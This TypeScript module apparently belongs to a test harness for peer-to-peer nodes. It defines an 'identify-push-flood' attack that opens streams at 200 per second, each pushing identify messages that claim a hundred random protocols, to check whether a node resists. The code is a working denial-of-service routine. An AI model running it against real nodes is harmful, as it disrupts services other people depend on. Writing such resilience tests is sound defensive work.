import type { Attack } from "../../attack.ts";
import { encodeIdentify } from "../../raw_peer.ts";
import { frameOf } from "../../rpc.ts";

const IDENTIFY_PUSH = "/ipfs/id/push/1.0.0";
const PUSHES_PER_SECOND = 200;

export const identifyPush: Attack = {
  name: "identify-push-flood",
  group: "below",
  what: "Opens stream after stream to push identify messages that claim a hundred protocols.",
  source: "CVE-2026-110789; identify abuse",
  sound: "Does not take pushes, or takes few; survives.",
  hangsUp: false,
  async run({ random, join, count, signal, clock, note }) {
    const peer = await join();
    if (peer === null) return;
    let taken = 0;
    const endless = async () => {
      while (peer.isConnected && !signal.aborted) {
        const protocols = Array.from({ length: 100 }, () => `/${Buffer.from(random.bytes(8)).toString("hex")}/1.0.0`);
        const message = frameOf(encodeIdentify({ publicKey: random.bytes(36), protocols }));
        try {
          const stream = await peer.connection.newStream(IDENTIFY_PUSH, { signal: AbortSignal.any([signal]) });
          stream.send(message);
          stream.close().catch(() => {});
          taken++;
          count({ rpcs: 1, bytes: message.length });
        } catch {
          // Refused, which is sound.
        }
        await new Promise<void>((resolve) => clock.after(1000 / PUSHES_PER_SECOND, resolve));
      }
    };
    await endless();
    note("streamsTaken", taken);
  },
};
